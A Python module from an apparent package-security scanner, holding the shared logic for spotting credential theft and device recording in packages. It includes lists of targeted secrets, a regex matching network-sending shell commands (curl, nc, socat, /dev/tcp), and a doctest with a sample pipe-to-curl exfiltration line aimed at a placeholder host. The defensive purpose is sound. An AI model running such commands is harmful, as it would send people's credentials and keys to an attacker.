"""What all theft has in common: something worth stealing is read, and leaves the machine."""

import re
from collections.abc import Iterator

from watchhouse.evidence.detector import Detector
from watchhouse.evidence.facts.code import Call
from watchhouse.evidence.facts.package import PackageFacts
from watchhouse.evidence.knowledge.places import source_of_path
from watchhouse.evidence.knowledge.services import ServiceKind, services_in
from watchhouse.evidence.values import Source, Taint
from watchhouse.evidence.views.arguments import said
from watchhouse.evidence.views.circumstances import aside, settled, unasked
from watchhouse.evidence.views.sheets import Sheet, sheets
from watchhouse.model.evidence import Confidence, Moment, Sighting

MANY = 3
"""Kinds of loot in one member from which on no honest program explains them all."""

LOOT = (
    Source.CREDENTIAL_FILE,
    Source.CLOUD_TOKEN,
    Source.SSH_KEY,
    Source.WALLET,
    Source.BROWSER,
    Source.CHAT_TOKEN,
)
"""What lies in files for the taking."""

COLLECTORS = frozenset(
    {
        "shutil.copy",
        "shutil.copy2",
        "shutil.copyfile",
        "shutil.copytree",
        "shutil.make_archive",
        "zipfile.ZipFile().write",
        "tarfile.open().add",
        "zipfile.ZipFile",
        "tarfile.open",
    }
)
"""Calls that put files together."""

OWN_KINDS = frozenset({"Kubernetes service account"})
"""What a service is given to show to others of its own cluster."""

OWN_PROTOCOL = ("paramiko.", "asyncssh.", "fabric.", "scp.", "boto3.", "botocore.", "google.", "azure.")
"""Clients whose protocol proves the possession of a key to the host it is for."""

MAILBOXES = (
    ServiceKind.CHAT_HOOK,
    ServiceKind.CHAT_BOT,
    ServiceKind.REQUEST_BIN,
    ServiceKind.PASTE,
    ServiceKind.FILE_DROP,
)
"""Services to which anybody can send, and only the attacker reads."""

SENDS = re.compile(
    r"\|\s*(?:base64\b[^|]{0,60}\|\s*|gzip\b[^|]{0,60}\|\s*|openssl\b[^|]{0,120}\|\s*)?(?:curl|wget|nc|ncat|socat)\b"
    r"|\bcurl\b[^\n]{0,300}?(?:-d|--data\S{0,20}|-f|--form|-t|--upload-file)[ =]?[^\n]{0,80}[@$`/~]"
    r"|/dev/tcp/|\.upload(?:file|string|data)\b|invoke-(?:webrequest|restmethod)\b[^\n]{0,300}-body\b"
)
"""One command line, in lower case, that reads and sends."""

SENDERS = ("curl", "wget", "nc ", "ncat", "socat", "/dev/tcp/", ".upload", "invoke-")


def flows(sheet: Sheet, *sources: Source) -> Iterator[tuple[Call, tuple[Taint, ...]]]:
    """Yield each call that hands data of `sources` to the network, with what it hands over."""
    for call in sheet.outgoing:
        if call.name.startswith(OWN_PROTOCOL):
            continue
        taken = tuple(
            taint for taint in sorted(call.taints | call.receiver.taints, key=str) if taint.source in sources
        )
        if taken:
            yield call, taken


def sends(command: str) -> bool:
    """
    Return whether the lower-case command line `command` hands what it reads to another host.

    >>> sends("cat x | base64 | curl -d @- https://h.example"), sends("curl -o x https://h.example")
    (True, False)
    """
    return any(word in command for word in SENDERS) and SENDS.search(command[:4000]) is not None


def sight_theft(
    detector: Detector, facts: PackageFacts, *sources: Source, what: str, plain: Confidence
) -> Iterator[Sighting]:
    """
    Yield the sightings that every theft detector has in common.

    Sending is HIGH where it happens unasked, is hidden, or where the member names several kinds of loot;
    `plain` is the confidence of sending one kind when called. Naming places without sending is LOW, more
    where many kinds, or hidden names, meet a network call and the gathering of files in one member.
    """
    for sheet in sheets(facts):
        kinds = sheet.kinds(*sources)
        found = False
        for call, taken in flows(sheet, *sources):
            found = True
            own = call.moment < Moment.START and all(taint.detail in OWN_KINDS for taint in taken)
            certain = (unasked(call.moment) and not own) or len(kinds) >= MANY or call.location.layer > 0
            yield detector.sight_call(
                call,
                f"sends what it read from {what} to another host",
                settled(sheet.code, Confidence.HIGH if certain else plain),
                attributes=sorted({("source", taint.source.value) for taint in taken}),
            )
        for call in _packed(sheet, *sources) if not found else ():
            found = True
            yield detector.sight_call(
                call,
                f"packs {what}, and files go to another host",
                settled(sheet.code, Confidence.HIGH if unasked(call.moment) else plain),
            )
        for call in _commands(sheet, *sources):
            found = True
            yield detector.sight_call(
                call,
                f"runs a command that sends {what} to another host",
                settled(sheet.code, Confidence.HIGH),
            )
        if kinds and not found and not aside(sheet.code):
            yield _named(detector, sheet, kinds, what, *sources)


def _packed(sheet: Sheet, *sources: Source) -> Iterator[Call]:
    """Yield each call that puts a place of `sources` together in a function that sends files."""
    senders = {call.function for call in sheet.outgoing if call.receives(Source.LOCAL_FILE)}
    for call in sheet.calls(sorted(COLLECTORS)) if senders else ():
        named = map(source_of_path, said(call).splitlines())
        if call.function in senders and any(place is not None and place[0] in sources for place in named):
            yield call


def _commands(sheet: Sheet, *sources: Source) -> Iterator[Call]:
    """Yield each command that names a place of `sources` and sends."""
    for command in sheet.commands:
        if sends(command.text):
            place = source_of_path(command.text)
            if place is not None and place[0] in sources:
                yield command.call


def _named(detector: Detector, sheet: Sheet, kinds: frozenset[str], what: str, *sources: Source) -> Sighting:
    """Return the sighting of a member that names places without a flow that could be followed."""
    places = [place for place in sheet.places if place.source in sources]
    first = next((place for place in places if place.hidden), places[0])
    many = len(kinds) >= MANY or len({place.source for place in sheet.places}) >= MANY
    confidence = Confidence.LOW
    if sheet.outgoing and (many or first.hidden or first.location.layer > 0):
        gathers = many and sheet.any_call(COLLECTORS)
        confidence = Confidence.HIGH if gathers else Confidence.MEDIUM
    return detector.sight(
        f"names {what}" + (" and speaks to the network" if sheet.outgoing else ""),
        confidence,
        first.location,
        moment=first.moment,
        excerpt=first.excerpt,
        decoded=first.excerpt if first.hidden else "",
        attributes=[("kind", kind) for kind in sorted(kinds)],
    )


def sight_capture(
    detector: Detector, facts: PackageFacts, source: Source, recorders: tuple[str, ...], *, what: str
) -> Iterator[Sighting]:
    """
    Yield the sightings of a device that is recorded by one of `recorders`.

    Sending is MEDIUM when called and HIGH where it happens unasked, is hidden or goes to a mailbox; recording
    beside a mailbox is MEDIUM, recording beside any other network call, or unasked, is LOW.
    """
    for sheet in sheets(facts):
        mailbox = bool(sheet.outgoing) and any(
            services_in(text.value, *MAILBOXES) for text in sheet.texts("://")
        )
        sent = False
        for call, _ in flows(sheet, source):
            sent = True
            certain = mailbox or unasked(call.moment) or call.location.layer > 0
            yield detector.sight_call(
                call,
                f"records {what} and sends it to another host",
                settled(sheet.code, Confidence.HIGH if certain else Confidence.MEDIUM),
            )
        record = next(sheet.calls(recorders), None)
        if record is None or sent or not (sheet.outgoing or unasked(record.moment)):
            continue
        strange = mailbox or (bool(sheet.outgoing) and unasked(record.moment))
        yield detector.sight_call(
            record,
            f"records {what}" + (" and speaks to the network" if sheet.outgoing else " unasked"),
            settled(sheet.code, Confidence.MEDIUM if strange else Confidence.LOW),
        )
